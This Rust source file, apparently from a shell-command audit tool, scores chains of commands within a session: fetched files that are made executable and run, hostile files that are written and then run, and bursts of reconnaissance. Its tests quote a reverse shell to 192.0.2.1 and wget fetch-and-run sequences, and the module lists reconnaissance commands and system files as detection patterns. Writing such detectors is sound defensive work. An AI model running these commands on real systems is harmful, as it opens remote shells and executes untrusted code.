//! What a session did before: attackers come in sequences.
//!
//! A chain of steps (fetched, made executable, run; looked around, then reached for credentials)
//! says more than each step. Steps fade with a half-life of ten minutes; looking around never
//! alarms alone.

use std::collections::VecDeque;

use audit_core::{Finding, Moment, Score};

use crate::detector::{Assessment, excerpt};
use crate::shell::{Flow, Origin, same_file};

/// A step is worth half after this many seconds.
const HALF_LIFE: f32 = 600.0;
/// This many written files are remembered.
const FILES: usize = 16;
/// Each line of looking around adds this much.
const DISCOVERY: f32 = 0.05;

/// What a session did so far.
#[derive(Clone, Debug, Default)]
pub struct Chain {
    at: f32,
    discovery: f32,
    suspicion: f32,
    /// Files that were fetched.
    flow: Flow,
    /// Files that were written and would be a threat if they were run, and how much of one.
    planted: VecDeque<(String, f32)>,
}

impl Chain {
    /// Takes the next line into account; may raise its score, never lowers it.
    pub fn step(&mut self, assessment: &mut Assessment, at: Moment) {
        self.fade(at);
        let steps = std::mem::take(&mut assessment.resolved.steps);
        let mut raised: Option<Raised> = None;
        for command in &steps {
            let (program, rest) = command.split_once(' ').unwrap_or((command, ""));
            if let Some((origin, hidden)) = self.flow.step(command) {
                raised = worse(raised, fetched(origin, hidden));
            }
            if let Some(score) = self.planted_in(program, rest) {
                raised = worse(raised, planted(score));
            }
            if discovers(program, rest) {
                self.discovery = (self.discovery + 1.0).min(12.0);
            }
        }
        assessment.resolved.steps = steps;
        self.planted.extend(assessment.planted.iter().cloned());
        while self.planted.len() > FILES {
            self.planted.pop_front();
        }
        let burst = (self.discovery * DISCOVERY).min(0.2);
        if assessment.rule >= 0.5
            && assessment.rule < 0.7
            && (burst >= 0.1 || self.suspicion >= 1.0)
        {
            let score = (assessment.score + burst.max(0.08)).min(0.75);
            let chain = ("session.chain", "suspicious step after others", "suspicious", score);
            raised = worse(raised, Some(chain));
        }
        if assessment.rule >= 0.5 {
            self.suspicion += assessment.rule;
        }
        if let Some((rule, title, category, score)) = raised.filter(|r| r.3 > assessment.score) {
            assessment.score = score;
            assessment.findings.insert(
                0,
                Finding {
                    rule: rule.into(),
                    title: title.into(),
                    category: category.into(),
                    mitre: Vec::new(),
                    score: Score::new(score).unwrap_or_default(),
                    excerpt: excerpt(&assessment.resolved.raw, (0, 0)),
                },
            );
        }
    }

    fn fade(&mut self, at: Moment) {
        let now = at.as_nanos() as f32 / 1e9;
        let share = 0.5f32.powf((now - self.at).max(0.0) / HALF_LIFE);
        self.discovery *= share;
        self.suspicion *= share;
        if share < 0.1 {
            self.flow.clear();
            self.planted.clear();
        }
        self.at = now;
    }

    /// How much of a threat a written file is that a command runs.
    fn planted_in(&self, program: &str, rest: &str) -> Option<f32> {
        let mut run = std::iter::once(program).chain(match program {
            "sh" | "bash" | "dash" | "zsh" | "source" | "." | "python3" | "python" | "perl"
            | "crontab" | "node" | "php" | "ruby" => rest.split(' ').find(|w| !w.starts_with('-')),
            _ => None,
        });
        run.find_map(|target| self.planted.iter().find(|(path, _)| same_file(path, target)))
            .map(|(_, score)| *score)
    }
}

/// A rule of this module that fired: its name, title, category and score.
type Raised = (&'static str, &'static str, &'static str, f32);

fn worse(known: Option<Raised>, new: Option<Raised>) -> Option<Raised> {
    match (known, new) {
        (Some(known), Some(new)) if known.3 >= new.3 => Some(known),
        (known, new) => new.or(known),
    }
}

fn fetched(origin: Origin, hidden: bool) -> Option<Raised> {
    let score = match origin {
        Origin::Known => return None,
        Origin::Site if hidden => 0.75,
        Origin::Site => 0.6,
        Origin::Plain => 0.72,
        Origin::Address => 0.8,
    };
    let title = "file fetched in this session is run";
    Some(("session.fetched-run", title, "download_exec", score))
}

fn planted(score: f32) -> Option<Raised> {
    Some(("session.written-run", "hostile file written in this session is run", "execution", score))
}

/// Whether a command only looks around.
fn discovers(program: &str, rest: &str) -> bool {
    match program {
        "whoami" | "id" | "hostname" | "uname" | "ifconfig" | "netstat" | "arp" | "route" | "w"
        | "last" | "lastlog" | "lscpu" | "lsmod" | "groups" | "nproc" | "dmidecode" => true,
        "ip" | "ss" | "ps" => true,
        "cat" | "less" | "head" => rest.split(' ').any(|r| {
            [
                "/etc/passwd",
                "/etc/issue",
                "/etc/os-release",
                "/proc/version",
                "/proc/cpuinfo",
                "/etc/hosts",
                "/etc/group",
            ]
            .contains(&r)
        }),
        "sudo" | "crontab" => rest == "-l",
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::Detector;
    use crate::shell::Variables;

    fn scores(lines: &[(&str, u64)]) -> Vec<f32> {
        let detector = Detector::embedded();
        let mut chain = Chain::default();
        let mut variables = Variables::new();
        lines
            .iter()
            .map(|(line, second)| {
                let mut assessment = detector.line(line, &mut variables, false);
                chain.step(&mut assessment, Moment::from_nanos(second * 1_000_000_000));
                assessment.score
            })
            .collect()
    }

    #[test]
    fn a_file_fetched_made_executable_and_run_adds_up() {
        let found = scores(&[
            ("wget http://h.example/agent", 1),
            ("chmod +x agent", 2),
            ("./agent --quiet", 3),
        ]);
        assert!(found[0] < 0.7 && found[1] < 0.7 && found[2] >= 0.7, "{found:?}");
    }

    #[test]
    fn a_program_that_was_not_fetched_may_be_run() {
        let found = scores(&[
            ("wget http://h.example/data.csv", 1),
            ("chmod +x tool", 2),
            ("./tool data.csv", 3),
        ]);
        assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
    }

    #[test]
    fn a_hostile_file_counts_when_it_is_run() {
        let found = scores(&[
            ("echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > notes/run.sh", 1),
            ("ls notes", 2),
            ("bash notes/run.sh", 3),
        ]);
        assert!(found[0] < 0.7 && found[1] < 0.7 && found[2] >= 0.9, "{found:?}");
    }

    #[test]
    fn a_document_that_quotes_an_attack_may_be_read() {
        let found = scores(&[
            ("echo 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' > notes.md", 1),
            ("cat notes.md", 2),
            ("git add notes.md", 3),
        ]);
        assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
    }

    #[test]
    fn looking_around_alone_never_alarms() {
        let found = scores(&[
            ("whoami", 1),
            ("id", 1),
            ("uname -a", 2),
            ("ps aux", 2),
            ("netstat -an", 3),
            ("cat /etc/passwd", 3),
            ("w", 4),
        ]);
        assert!(found.iter().all(|s| *s < 0.7), "{found:?}");
    }

    #[test]
    fn what_was_long_ago_is_forgotten() {
        let found = scores(&[
            ("wget http://h.example/agent", 1),
            ("chmod +x agent", 2),
            ("./agent", 90_000),
        ]);
        assert!(found[2] < 0.7, "{found:?}");
    }
}
